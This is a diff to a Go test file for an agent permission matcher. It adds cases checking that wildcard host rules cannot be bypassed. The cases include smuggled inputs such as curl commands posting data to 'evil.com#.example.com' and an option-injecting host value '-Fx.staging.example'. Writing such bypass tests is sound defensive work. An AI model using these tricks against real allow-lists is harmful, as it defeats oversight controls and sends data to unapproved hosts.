@@ -32,6 +32,12 @@ func TestNoWildcardCoversAnotherHost(t *testing.T) {
 		{"curl https://*.example.com -d **", "curl https://evil.com#.example.com -d x"},
 		{"curl https://** https://*.example.com/**", "curl https://a/ https://evil.com#.example.com/x"},
 		{"git clone https://*.example.com/**", "git clone https://u@evil.com?.example.com/x"},
+		{"curl https://*.example.com:*", "curl https://evil.com#.example.com:80"},
+		{"curl https://*.example.com**", "curl https://evil.com?.example.com"},
+		{"curl https://*.example.com?q=*", "curl https://evil.com?.example.com?q=1"},
+		{"curl https://a?*.example.com?q=*", "curl https://ab.com#.example.com?q=1"},
+		{"curl http://localhost:** https://*.example.com/**", "curl http://localhost:80 https://evil.com#.example.com/"},
+		{"curl https://*.example.com/**", "curl https://[::1]?.example.com/x"},
 	} {
 		require.Equal(t, api.RuleAsk, decided(t, api.RuleAllow, "bash", map[string]string{"command": test.glob}, map[string]any{"command": test.command}), "%q, %q", test.glob, test.command)
 	}
@@ -52,6 +58,10 @@ func TestNoWildcardCoversAnotherHost(t *testing.T) {
 		{"curl https://*.example.com -d **", "curl https://a.example.com -d @x"},
 		{"curl https://u:*@*.example.com/**", "curl https://u:12@a.example.com/x"},
 		{"curl http://[::1]:*/**", "curl http://[::1]:80/x"},
+		{"curl https://api.example.com?q=1", "curl https://api.example.com?q=1"},
+		{"curl https://api.example.com?q=*", "curl https://api.example.com?q=1"},
+		{"curl https://api.example.com/x **", "curl https://api.example.com/x --referer https://u:p@b.example -s"},
+		{"git clone ssh://git@github.com:org/*", "git clone ssh://git@github.com:org/x"},
 		{"curl https://**", "curl https://u:p@example.com?x=1 -s"},
 		{"curl **", "curl https://u:p@example.com?x=1 -s"},
 		{"git **", "git clone ssh://git@example.com:22/x"},
@@ -72,6 +82,8 @@ func TestNoWildcardCoversAnotherHost(t *testing.T) {
 		{"http://localhost:*", "http://localhost:3000"},
 		{"https://*.example.com/**", "https://a.example.com/?next=https://u:p@b.example.org?c;d"},
 		{"https://**", "https://example.com:8443/x"},
+		{"https://**", "https://[::1]:8443/x"},
+		{"http://[::1]:*/**", "http://[::1]:3000/x"},
 	} {
 		require.Equal(t, api.RuleAllow, decided(t, api.RuleAllow, "fetch", map[string]string{"url": test.glob}, map[string]any{"url": test.url}), "%q, %q", test.glob, test.url)
 	}
@@ -89,6 +101,7 @@ func TestNoWildcardCoversMoreThanTheNameOfAHost(t *testing.T) {
 			{"**.staging.example", "evil.example/x.staging.example"},
 			{"staging-*", "staging-1@evil.example"},
 			{"staging-?", "staging-@"},
+			{"*.staging.example", "-Fx.staging.example"},
 		} {
 			for _, name := range []string{"host", "hostName", "target_host", "domain"} {
 				require.Equal(t, api.RuleAsk, decided(t, api.RuleAllow, tool, map[string]string{name: test.glob}, map[string]any{name: test.host}), "%s, %q, %q", tool, test.glob, test.host)
@@ -100,9 +113,15 @@ func TestNoWildcardCoversMoreThanTheNameOfAHost(t *testing.T) {
 			{"staging-?", "staging-1"},
 			{"*@staging.example", "deploy@staging.example"},
 			{"**", "u@evil.example"},
+			{"https://*.staging.example/**", "https://a.staging.example/x"},
+			{"git@staging.example:org/*", "git@staging.example:org/x"},
+			{"*/main", "staging/main"},
 		} {
 			require.Equal(t, api.RuleAllow, decided(t, api.RuleAllow, tool, map[string]string{"host": test.glob}, map[string]any{"host": test.host}), "%s, %q, %q", tool, test.glob, test.host)
 		}
 	}
+	hosts := map[string]string{"hosts": `["*.staging.example"]`}
+	require.Equal(t, api.RuleAsk, decided(t, api.RuleAllow, "post", hosts, map[string]any{"hosts": []string{"evil.example#.staging.example"}}))
+	require.Equal(t, api.RuleAllow, decided(t, api.RuleAllow, "post", hosts, map[string]any{"hosts": []string{"a.staging.example"}}))
 	require.Equal(t, api.RuleAllow, decided(t, api.RuleAllow, "post", map[string]string{"ghost": "a*"}, map[string]any{"ghost": "a b@c"}))
 }
